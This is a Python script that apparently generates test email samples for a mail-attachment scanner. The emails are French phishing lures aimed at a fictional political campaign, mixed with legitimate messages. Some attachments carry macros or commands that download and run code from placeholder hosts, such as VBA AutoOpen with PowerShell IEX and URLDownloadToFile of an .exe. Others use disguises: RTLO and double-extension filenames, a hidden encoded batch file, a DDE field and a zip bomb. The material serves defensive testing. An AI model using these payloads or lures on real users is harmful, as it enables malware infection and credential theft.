"""Regenerate the attachment samples: ``python tests/mail/samples/attachments/make_samples.py``.

Every ``.eml`` here is written by this script from :mod:`builders` (nothing is
downloaded, no real malware: the "programs" are PE headers without code, the
scripts only echo). People and domains are fictional; the campaign is the test
campaign of ``tests/mail/support.py``. Dates and boundaries are fixed so that
running it again gives the same files (except the ISO and 7z samples, whose
libraries stamp the current time).
"""

from __future__ import annotations

import sys
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

HERE = Path(__file__).parent
sys.path.insert(0, str(HERE))
sys.path.append(str(HERE.parent))

import builders as b  # noqa: E402
from _mime import CAMILLE as TO  # noqa: E402

DATE = "Tue, 14 Apr 2026 09:12:00 +0200"

AUTOOPEN_VBA = (
    "Sub AutoOpen()\r\n"
    "    Dim cmd As String\r\n"
    '    cmd = "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString('
    '\'http://docs-interview.example.net/q.ps1\')"""\r\n'
    "    Shell cmd, vbHide\r\n"
    "End Sub\r\n"
)
DOCUMENT_OPEN_VBA = (
    'Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal a As LongPtr, '
    "ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\r\n"
    "Private Sub Document_Open()\r\n"
    '    URLDownloadToFileA 0, "http://185.199.40.12/tresorerie.exe", Environ("TEMP") & '
    '"\\t.exe", 0, 0\r\n'
    '    CreateObject("WScript.Shell").Run Environ("TEMP") & "\\t.exe", 0\r\n'
    "End Sub\r\n"
)
PLAIN_VBA = (
    "Sub MettreEnForme()\r\n"
    '    Range("A1:F1").Font.Bold = True\r\n'
    '    Columns("A:F").AutoFit\r\n'
    "End Sub\r\n"
)
WSH_JS = (
    "var sh = new ActiveXObject('WScript.Shell');\r\n"
    "var u = 'http://factures-en-ligne.example.org/p';\r\n"
    "sh.Run('cmd /c echo ' + u, 0);\r\n"
)
HTA = (
    '<html><head><title>Sondage</title><hta:application id="s" windowstate="minimize"/>'
    '<script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c echo sondage", 0'
    "</script></head><body>Chargement…</body></html>"
)
BATCH = (
    "@echo off\r\nsetlocal\r\n"
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\r\n"
    "del %~f0\r\n"
)


def _xlsm(code: str) -> bytes:
    ct = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
    )
    wb = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<sheets/></workbook>"
    )
    return b.ooxml(
        {
            "[Content_Types].xml": ct,
            "_rels/.rels": b.ROOT_RELS.replace("word/document.xml", "xl/workbook.xml"),
            "xl/workbook.xml": wb,
            "xl/vbaProject.bin": b.vba_project_bin(code, "Module1"),
        }
    )


def _slk() -> bytes:
    return (
        "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\n"
        'C;X1;Y1;K0;EEXEC("cmd /c echo releve")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n'
    ).encode("ascii")


def _dde_docx() -> bytes:
    body = (
        b.paragraph("Communiqué de presse")
        + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\'
        + "</w:instrText></w:r>"
        + '<w:r><w:instrText xml:space="preserve">cmd.exe "/k echo communique"</w:instrText></w:r>'
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return b.docx(body)


def _remote_template_docx() -> bytes:
    rel = (
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/attachedTemplate" '
        'Target="https://office-templates.example-cdn.net/programme.dotm" TargetMode="External"/>'
    )
    return b.docx(b.paragraph("Programme 2027 — version de travail"), settings_rels=rel)


def _clean_docx() -> bytes:
    rel = (
        '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/hyperlink" Target="https://www.lemonde.fr/politique/" '
        'TargetMode="External"/>'
    )
    body = b.paragraph("Questions pour l'entretien du 20 avril") + (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return b.docx(body, doc_rels=rel)


def _rtf_objects() -> bytes:
    pkg = b.ole1_package("mise_a_jour.exe", b.pe())
    return b.rtf_document([(pkg, "Package"), (b.equation_object(), "Equation.3")])


def _tar_gz() -> bytes:
    import gzip
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in (
            ("sauvegarde/lisezmoi.txt", b"Sauvegarde du site.\n"),
            (
                "sauvegarde/update.ps1",
                b"Invoke-WebRequest http://x.example/a -OutFile a; Start-Process a",
            ),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1776150000
            tf.addfile(info, io.BytesIO(data))
    return gzip.compress(buf.getvalue(), mtime=0)


def _svg() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="120" height="40">'
        b'<text x="5" y="25">Parti Exemple</text><script type="text/javascript">'
        b"window.location='https://parti-exemple.login-verif.example/?u=camille';</script></svg>"
    )


def _ics() -> bytes:
    return (
        b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\r\n"
        b"METHOD:REQUEST\r\nBEGIN:VEVENT\r\nDTSTART:20260420T080000Z\r\nDTEND:20260420T090000Z\r\n"
        b"SUMMARY:Point presse hebdomadaire\r\nORGANIZER:mailto:alex.durand@campaign-party.org\r\n"
        b"UID:7kq2p3@google.com\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )


Att = tuple[str, str, bytes]


def samples() -> dict[str, tuple[str, str, str, list[Att], str]]:
    """name → (From, Subject, body text, attachments, html body or "")."""
    pe = b.pe()
    receipt = b.pdf("Recu fiscal n. 2026-0412 - don de 150 euros - Parti Exemple")
    return {
        "journalist_docm_autoopen": (
            "Léa Fontaine <lea.fontaine.journaliste@gmail.com>",
            "Demande d'interview – questions en pièce jointe",
            "Bonjour Madame Exemple,\n\nJe prépare un portrait pour un hebdomadaire régional. "
            "Vous trouverez mes questions dans le document joint (activez le contenu pour "
            "afficher la mise en page).\n\nBien cordialement,\nLéa Fontaine\n",
            [
                (
                    "questions_interview.docm",
                    "application/vnd.ms-word.document.macroEnabled.12",
                    b.docx(b.paragraph("Questions"), vba=b.vba_project_bin(AUTOOPEN_VBA)),
                )
            ],
            "",
        ),
        "ole_doc_document_open": (
            "Trésorerie <tresorerie@parti-exemple-finances.fr>",
            "Note de trésorerie – à valider avant vendredi",
            "Bonjour,\n\nMerci de valider la note de trésorerie jointe avant vendredi.\n\nDM\n",
            [("Note_tresorerie.doc", "application/msword", b.word97_doc(DOCUMENT_OPEN_VBA))],
            "",
        ),
        "treasurer_xlsm_plain_macro": (
            "Dominique Martin <tresorier@parti-exemple.fr>",
            "Budget réunion publique",
            "Camille,\n\nVoici le budget de la réunion de Lyon, avec la petite macro de mise en "
            "forme habituelle.\n\nDominique\n",
            [
                (
                    "budget_reunion.xlsm",
                    "application/vnd.ms-excel.sheet.macroEnabled.12",
                    _xlsm(PLAIN_VBA),
                )
            ],
            "",
        ),
        "slk_xlm_auto_open": (
            "Banque Exemple <releves@banque-exemple-releves.com>",
            "Relevé de compte de campagne – avril",
            "Madame,\n\nVeuillez trouver ci-joint votre relevé au format tableur.\n",
            [("releve_avril.slk", "application/vnd.ms-excel", _slk())],
            "",
        ),
        "rtf_embedded_objects": (
            "Secrétariat national <secretariat@parti-exemple.org>",
            "Convocation au conseil national",
            "Bonjour,\n\nVeuillez trouver ci-jointe la convocation.\n",
            [("convocation.rtf", "application/rtf", _rtf_objects())],
            "",
        ),
        "docx_dde": (
            "Agence Presse Info <redaction@presse-info-agence.com>",
            "Communiqué à relire",
            "Bonjour,\n\nMerci de relire le communiqué joint.\n",
            [
                (
                    "communique.docx",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    _dde_docx(),
                )
            ],
            "",
        ),
        "docx_remote_template": (
            "Alex Durand <alex.durand@campaign-party.co>",
            "Programme 2027 – version de travail",
            "Camille,\n\nLa version de travail du programme, à ne pas diffuser.\n\nAlex\n",
            [
                (
                    "programme_2027.docx",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    _remote_template_docx(),
                )
            ],
            "",
        ),
        "zip_js_password_fr": (
            "Service facturation <facturation@imprimerie-tracts.example>",
            "Facture impression tracts n°2026-118",
            "Bonjour,\n\nVotre facture est dans l'archive sécurisée ci-jointe.\n"
            "mot de passe : 1234\n\nCordialement\n",
            [
                (
                    "facture_2026-118.zip",
                    "application/zip",
                    b.zip_file(
                        [b.ZipMember("facture_2026-118.js", WSH_JS.encode(), password=b"1234")]
                    ),
                )
            ],
            "",
        ),
        "iso_lnk": (
            "Équipe numérique <numerique@parti-exemple-docs.fr>",
            "Documents de campagne (programme, argumentaires)",
            "Bonjour,\n\nTous les documents de campagne sont dans l'image disque jointe.\n",
            [
                (
                    "documents_campagne.iso",
                    "application/x-iso9660-image",
                    b.iso({"Programme 2027.pdf.lnk": b.lnk(), "lisezmoi.txt": b"Bonne lecture\n"}),
                )
            ],
            "",
        ),
        "onenote_hta": (
            "Secrétariat <secretariat@parti-exemple-notes.fr>",
            "Compte rendu du bureau – OneNote",
            "Bonjour,\n\nLe compte rendu est dans le bloc-notes joint : double-cliquez sur "
            "« Afficher le document ».\n",
            [("compte_rendu_bureau.one", "application/onenote", b.onenote(HTA.encode()))],
            "",
        ),
        "hta_attachment": (
            "Institut Sondages <etudes@institut-sondages.example>",
            "Sondage exclusif – intentions de vote",
            "Madame,\n\nLes résultats exclusifs sont dans le fichier joint.\n",
            [("sondage_exclusif.hta", "application/hta", HTA.encode())],
            "",
        ),
        "exe_named_pdf": (
            "Dons en ligne <dons@collecte-dons-en-ligne.example>",
            "Reçu de votre don",
            "Merci pour votre don. Votre reçu est joint.\n",
            [("recu_don_2026.pdf", "application/pdf", pe)],
            "",
        ),
        "double_extension_exe": (
            "Fournisseur Affiches <compta@affiches-pro.example>",
            "Facture affiches",
            "Bonjour, voici la facture des affiches.\n",
            [("facture.pdf.exe", "application/octet-stream", pe)],
            "",
        ),
        "rtlo_scr": (
            "Banque Exemple <releves@banque-exemple-releves.com>",
            "Relevé bancaire",
            "Votre relevé est joint.\n",
            [("releve_\u202efdp.scr", "application/octet-stream", pe)],
            "",
        ),
        "padded_js": (
            "Accounts <accounts@invoices-portal.example>",
            "Invoice 4471",
            "Please find the invoice attached.\n",
            [("invoice.pdf" + " " * 40 + ".js", "application/javascript", WSH_JS.encode())],
            "",
        ),
        "seven_zip_hidden_names_password_en": (
            "Shipping <notify@parcel-tracking.example>",
            "Your shipment documents",
            "Hello,\n\nThe documents are in the encrypted archive. The password is: infected\n",
            [
                (
                    "documents.7z",
                    "application/x-7z-compressed",
                    b.seven_zip({"documents.js": WSH_JS.encode()}, "infected", True),
                )
            ],
            "",
        ),
        "rar_vbs_pwd_subject": (
            "Scanner <scanner@copieur-mairie.example>",
            "Documents scannés (pwd 2024)",
            "Document scanné depuis le copieur.\n",
            [("scan_0425.rar", "application/vnd.rar", b.rar5([("scan_0425.vbs", b"x")], True))],
            "",
        ),
        "zip_bomb_nested": (
            "Archives <archives@stockage-partage.example>",
            "Archive des tracts",
            "Bonjour, l'archive complète des tracts est jointe.\n",
            [
                (
                    "tracts_archive.zip",
                    "application/zip",
                    b.nested_bomb(levels=5, copies=16, leaf_mib=16),
                )
            ],
            "",
        ),
        "zip_encrypted_password_elsewhere": (
            "Dominique Martin <tresorier@parti-exemple.fr>",
            "Comptes de campagne chiffrés",
            "Camille,\n\nLes comptes sont dans l'archive chiffrée ; le mot de passe suit par "
            "SMS, comme convenu.\n\nDominique\n",
            [
                (
                    "comptes_2026.zip",
                    "application/zip",
                    b.zip_file(
                        [b.ZipMember("comptes_2026.xlsx", b"PK" + bytes(200), password=b"Sms!2026")]
                    ),
                )
            ],
            "",
        ),
        "pdf_that_is_zip": (
            "Devis <devis@imprimeur-devis.example>",
            "Devis signé",
            "Voici le devis signé.\n",
            [
                (
                    "devis_signe.pdf",
                    "application/pdf",
                    b.zip_file([b.ZipMember("devis_signe.pdf.js", WSH_JS.encode())]),
                )
            ],
            "",
        ),
        "svg_with_script": (
            "Studio Graphique <contact@studio-graphique.example>",
            "Nouveau logo",
            "Voici la proposition de logo.\n",
            [("logo_parti.svg", "image/svg+xml", _svg())],
            "",
        ),
        "batch_named_txt": (
            "Support informatique <support@parti-exemple-it.fr>",
            "Procédure de mise à jour du poste",
            "Bonjour, renommez la pièce jointe en .bat puis lancez-la.\n",
            [("procedure_mise_a_jour.txt", "text/plain", BATCH.encode())],
            "",
        ),
        "url_shortcut": (
            "Partage <partage@drive-documents.example>",
            "Dossier partagé : fichier électoral",
            "Le dossier partagé est accessible via le raccourci joint.\n",
            [
                (
                    "fichier_electoral.url",
                    "application/internet-shortcut",
                    b"[InternetShortcut]\r\nURL=file://203.0.113.7/partage/fichier.exe\r\n"
                    b"IconIndex=1\r\n",
                )
            ],
            "",
        ),
        "tar_gz_ps1": (
            "Hébergeur <support@hebergeur-web.example>",
            "Sauvegarde de votre site",
            "Votre sauvegarde est jointe.\n",
            [("sauvegarde.tar.gz", "application/gzip", _tar_gz())],
            "",
        ),
        "zip_with_docm": (
            "Rédaction <redaction@magazine-politique.example>",
            "Dossier de presse",
            "Bonjour, le dossier de presse est joint (questions au format Word).\n",
            [
                (
                    "dossier_presse.zip",
                    "application/zip",
                    b.zip_file(
                        [
                            b.ZipMember(
                                "dossier/questions.docm",
                                b.docx(b.paragraph("Q"), vba=b.vba_project_bin(AUTOOPEN_VBA)),
                            ),
                            b.ZipMember("dossier/photo.png", b.png()),
                        ]
                    ),
                )
            ],
            "",
        ),
        # ------------------------------------------------ legitimate
        "legit_pdf_receipt": (
            "Parti Exemple – Dons <dons@parti-exemple.fr>",
            "Votre reçu fiscal",
            "Merci pour votre soutien ! Votre reçu fiscal est joint à ce message.\n",
            [("recu_fiscal_2026-0412.pdf", "application/pdf", receipt)],
            "",
        ),
        "legit_newsletter_png": (
            "Parti Exemple <newsletter@parti-exemple.fr>",
            "La lettre de campagne n°12",
            "La lettre de campagne n°12. Lire en ligne : https://www.parti-exemple.fr/lettre/12\n",
            [("logo.png", "image/png", b.png(16, 16))],
            '<html><body><img src="cid:logo.png" alt="Parti Exemple"><p>La lettre n°12 : '
            '<a href="https://www.parti-exemple.fr/lettre/12?utm_source=newsletter">lire</a>'
            "</p></body></html>",
        ),
        "legit_calendar_invite": (
            "Google Agenda <calendar-notification@google.com>",
            "Invitation : Point presse hebdomadaire",
            "Alex Durand vous invite au point presse hebdomadaire, lundi 20 avril à 10 h.\n",
            [("invite.ics", "text/calendar", _ics())],
            "",
        ),
        "legit_docx_journalist": (
            "Léa Fontaine <lea.fontaine.journaliste@gmail.com>",
            "Questions pour l'entretien",
            "Bonjour, voici mes questions pour l'entretien de lundi. Bien à vous, Léa\n",
            [
                (
                    "questions_entretien.docx",
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                    _clean_docx(),
                )
            ],
            "",
        ),
        "legit_zip_of_pdfs": (
            "Alex Durand <alex.durand@campaign-party.org>",
            "Tracts de la semaine",
            "Camille, les trois tracts de la semaine en PDF dans le zip. Alex\n",
            [
                (
                    "tracts_semaine_16.zip",
                    "application/zip",
                    b.zip_file(
                        [
                            b.ZipMember(f"tracts/tract_{n}.pdf", b.pdf(f"Tract {n}"))
                            for n in ("logement", "transports", "ecole")
                        ]
                    ),
                )
            ],
            "",
        ),
    }


def build(name: str, spec: tuple[str, str, str, list[Att], str]) -> bytes:
    sender, subject, text, atts, html = spec
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = TO
    msg["Subject"] = subject
    msg["Date"] = DATE
    msg["Message-ID"] = f"<{name}@samples.rempart.invalid>"
    msg.set_content(text)
    if html:
        msg.add_alternative(html, subtype="html")
    for fname, ctype, data in atts:
        maintype, _, subtype = ctype.partition("/")
        inline = html and maintype == "image"
        msg.add_attachment(
            data,
            maintype=maintype,
            subtype=subtype,
            filename=fname,
            disposition="inline" if inline else "attachment",
            cid=f"<{fname}>" if inline else None,
        )
    for i, part in enumerate(msg.walk()):
        if part.is_multipart():
            part.set_boundary(f"=_rempart_{name}_{i}")
    return msg.as_bytes(policy=SMTP.clone(linesep="\n"))


def main() -> None:
    for name, spec in samples().items():
        (HERE / f"{name}.eml").write_bytes(build(name, spec))
    print(f"{len(samples())} samples written to {HERE}")


if __name__ == "__main__":
    main()
